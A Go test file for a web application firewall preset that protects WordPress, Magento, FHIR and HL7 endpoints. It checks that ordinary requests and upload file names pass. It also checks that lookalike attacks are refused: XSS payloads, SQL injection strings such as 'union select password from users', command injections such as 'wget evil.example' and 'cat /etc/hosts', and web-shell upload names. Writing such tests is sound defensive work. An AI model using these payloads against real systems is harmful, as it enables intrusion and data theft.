package waf

import (
	"strconv"
	"strings"
	"testing"
)

// TestPresetLetsNoMorePass: beside each kind of request that the preset lets pass stands an
// attack that looks like it, and is refused.
func TestPresetLetsNoMorePass(t *testing.T) {
	t.Parallel()
	const (
		form, text = "application/x-www-form-urlencoded", "application/json"
		page       = `{"html":"<p style=\"color:red\">Hallo</p>"}`
		pageOfWP   = `{"content":"<p style=\"color:red\">Hallo</p>"}`
		summary    = `{"text":{"div":"<div xmlns=\"http://www.w3.org/1999/xhtml\">`
	)
	b := newBench(t)
	for _, c := range []struct {
		name, target, kind, body string
		refused                  bool
	}{
		{"Elementor", "/wp-admin/admin-ajax.php", form, "action=elementor_ajax&actions=" + page, false},
		{"its action in the query", "/wp-admin/admin-ajax.php?action=elementor_ajax", form, "actions=" + page, false},
		{"an action for visitors", "/wp-admin/admin-ajax.php", form, "action=kontakt&actions=" + page, true},
		{"two actions", "/wp-admin/admin-ajax.php?action=elementor_ajax", form, "action=kontakt&actions=" + page, true},
		{"an action for PHP alone", "/wp-admin/admin-ajax.php?action=elementor_ajax", form, "+action=kontakt&actions=" + page, true},
		{"no action", "/wp-admin/admin-ajax.php", form, "actions=" + page, true},

		{"a draft", "/wp-admin/admin-ajax.php", form, "action=heartbeat&data[wp_autosave][content]=" + page, false},
		{"another field of it", "/wp-admin/admin-ajax.php", form, "action=heartbeat&data[x][content]=" + page, true},
		{"a field of another", "/wp-admin/admin-ajax.php", form, "action=heartbeat&actions=" + page, true},

		{"a post", "/wp-json/wp/v2/oferta/2176", text, pageOfWP, false},
		{"a comment", "/wp-json/wp/v2/comments", text, pageOfWP, true},
		{"a comment in capitals", "/wp-json/wp/v2/Comments", text, pageOfWP, true},
		{"a comment by a field", "/wp-json/wp/v2/pages?rest_route=/wp/v2/comments", text, pageOfWP, true},
		{"a comment by a field of PHP", "/wp-json/wp/v2/pages?rest.route=/wp/v2/comments", text, pageOfWP, true},
		{"a back office with another name", "/eleno/index.php/sell/x", form, "content=<p style=\"a\">", false},
		{"a customer's page by a field of PHP", "/eleno/index.php/sell/x", form, "+fc=module&content=<p style=\"a\">", true},
		{"Magento", "/rest/de/V1/products/1", text, `{"product":{"custom_attributes":[{"value":"<p style=\"a\">"}]}}`, false},
		{"Magento's carts", "/rest/de/V1/guest-carts/1", text, `{"product":{"custom_attributes":[{"value":"<p style=\"a\">"}]}}`, true},

		{"a summary", "/fhir/Composition", "application/fhir+json", summary + `<p>Rezept</p></div>"}}`, false},
		{"a script in it", "/fhir/Composition", "application/fhir+json", summary + `<script>alert(1)</script></div>"}}`, true},
		{"a handler in it", "/fhir/Composition", "application/fhir+json", summary + `<p onclick=\"x()\"></div>"}}`, true},
		{"a summary as any JSON", "/fhir/Composition", text, summary + `<p>Rezept</p></div>"}}`, true},

		{"what a browser accepts", "/x", form, "a=text/html,application/xhtml%2Bxml,application/xml;q=0.9,*/*;q=0.8", false},
		{"and more", "/x", form, "a=text/html,application/xhtml%2Bxml xlink:href=x", true},
		{"the namespace of XHTML", "/x", "application/xml", `<a xmlns="http://www.w3.org/1999/xhtml"/>`, false},
		{"and more", "/x", "application/xml", `<a b="http://www.w3.org/1999/xhtml formaction=x"/>`, true},

		{"a key in a cookie", "/x", "cookie", "FPID2.2.tnU619I1atYXRHbrNS8yvM7ce5EGiUZ8OnsDVzJpXAs%3D.1658172099", false},
		{"a handler in a cookie", "/x", "cookie", "A1a%22 onload%3Dalert.YYYYYY", true},
		{"PostHog's path", "/x", text, `{"properties":{"$pathname":"/","$prev_pageview_pathname":"/a"}}`, false},
		{"a shell's path", "/x", form, "$path=x", true},
		{"words in brackets", "/x", form, "a=Night Sleep (60 Stück)", false},
		{"a call of them", "/x", form, "a=foo bar sleep (5)", true},
		{"umlauts", "/x", form, "a=Menü/Konto %3E Passwort", false},
		{"a tag of seven bits", "/x", form, "a=%BCscript%BEalert(1)%BC/script%BE", true},
		{"a quotation", "/x", form, "a=it's 'gut'! Immer", false},
		{"and a mark of SQL", "/x?a='x'!1", form, "a=it's 'gut'! Immer", true},
		{"XML with names", "/x", "application/xml", "<a><b url=\"https://shop.example/?a=1&amp;url=b\">WC Ente; 750 ml</b><c>2026-03-09</c></a>", false},
		{"XML with a remark", "/x", "application/xml", "<a><b>Insert (Einsatz) für die Schublade</b><c>2026-03-09</c></a>", false},
		{"XML with SQL", "/x", "application/xml", "<a><b>Insert (Einsatz) für die Schublade</b><c>1' or '1'='1</c></a>", true},
		{"XML with SQL as prose", "/x", "application/xml", "<a><b>Insert (Einsatz) für die Schublade</b><c>x' or sleep(5) or 'y</c></a>", true},
		{"XML with a command", "/x", "application/xml", "<a><b>WC Ente; 750 ml</b><c>wget evil.example</c></a>", true},
		{"XML with another", "/x", "application/xml", "<a><b>WC Ente; 750 ml</b><c>;c$@at /etc/hosts</c></a>", true},
		{"an encoding", "/x?compression=base64", form, "a=b", false},
		{"a command", "/x?compression=base64%20-d", form, "a=b", true},
		{"a message of HL7", "/x", "application/hl7-v2", "RXO|^Ibuprofen 400 mg|1||Tbl|^1-0-1; bei Bedarf", false},
		{"a message as a text", "/x", "text/plain", "RXO|^Ibuprofen 400 mg|1||Tbl|^1-0-1; bei Bedarf", true},
		{"SQL in a message", "/x", "application/hl7-v2", "PID|1' union select password from users--", true},
		{"a stack", "/x", text, `{"stack":"Error: x\n at Object.<anonymous> (https://shop.example/a.js:1:2)"}`, false},
		{"a substitution", "/x", text, `{"stapel":"a <(id)"}`, true},
	} {
		refused, fired := b.refuses(readPost(t, c.target, c.kind, c.body), b.preset)
		if refused != c.refused {
			t.Errorf("%s: %s %s: refused %t, want %t: %v", c.name, c.target, c.body, refused, c.refused, fired)
		}
	}
}

// TestFileNames: what people call their pictures passes, with the marks that they set, and
// no name that a shell, a database or a server reads as its own.
func TestFileNames(t *testing.T) {
	t.Parallel()
	b := newBench(t)
	for name, want := range map[string]bool{
		"Anna's Rezept.jpg": false, "l'Oréal; O'Neill.png": false, "Rock'n'Roll.jpg": false, "Rezept; Müller & Söhne.pdf": false,
		"=?utf-8?B?TcO8bGxlci5qcGc=?=": false, "=?utf-8?B?eDtpZDsuanBn?=": true, "=?utf-8?B?eDxzY3JpcHQ+LnBocA==?=": true, "=?utf-8?B?eC5waHA=?=": true,
		"Max.profile.png": false, "scsi.jpg": false,

		"x'or'1.jpg": true, "a' or sleep(5) or 'b.jpg": true, "a'union select password from users where name like'b.jpg": true,
		"x.jpg;whoami": true, "x;whoami.jpg": true, "x;sleep 5.jpg": true, "x; wget evil.jpg": true, "x;id;.jpg": true,
		".profile": true, ".profile.jpg": true, "wp-config.php": true, ".htaccess": true, "a/.htaccess": true,
		"x.php;.jpg": true, "shell.asp;.jpg": true, "x;.php": true, "x';.php.jpg": true, "<img src=x onerror=alert(1)>.jpg": true, "x'onerror=y.jpg": true,
		"..;a.jpg": true,
	} {
		const kind = "multipart/form-data; boundary=x"
		body := "--x\r\nContent-Disposition: form-data; name=\"bild\"; filename=\"" + name + "\"\r\nContent-Type: image/jpeg\r\n\r\nx\r\n--x--\r\n"
		if refused, fired := b.refuses(readPost(t, "/x", kind, body), b.preset); refused != want {
			t.Errorf("%s: refused %t, want %t: %v", name, refused, want, fired)
		}
	}
}

// TestFileNamesWithSQL: without the rule, what the shapes of names let pass would pass.
func TestFileNamesWithSQL(t *testing.T) {
	t.Parallel()
	b := newBench(t)
	const body = "--x\r\nContent-Disposition: form-data; name=\"bild\"; filename=\"a'union select password from users where name like'b.jpg\"\r\n\r\nx\r\n--x--\r\n"
	s := readPost(t, "/x", "multipart/form-data; boundary=x", body)
	if refused, fired := b.refuses(s, b.preset); !refused || !firedRule(fired, 9900180) {
		t.Errorf("refused %t: %v", refused, fired)
	}
	if refused, fired := b.refuses(s, append(without(9900180), b.preset...)); refused {
		t.Errorf("refused without the rule, too: %v", fired)
	}
}

// readPost makes a request with a body, or with a cookie instead.
func readPost(t *testing.T, target, kind, body string) *sample {
	t.Helper()
	header := "Content-Type: " + kind + "\r\nContent-Length: " + strconv.Itoa(len(body))
	if kind == "cookie" {
		header, body = "Cookie: a="+body, ""
		return &sample{Request: read(t, "GET "+target+" HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\n"+header+"\r\n\r\n")}
	}
	if kind == "application/x-www-form-urlencoded" {
		body = strings.NewReplacer(" ", "+", "<", "%3C", ">", "%3E", `"`, "%22", "#", "%23").Replace(body)
		header = "Content-Type: " + kind + "\r\nContent-Length: " + strconv.Itoa(len(body))
	}
	return &sample{
		Request: read(t, "POST "+target+" HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\n"+header+"\r\n\r\n"+body),
		body:    []byte(body),
	}
}
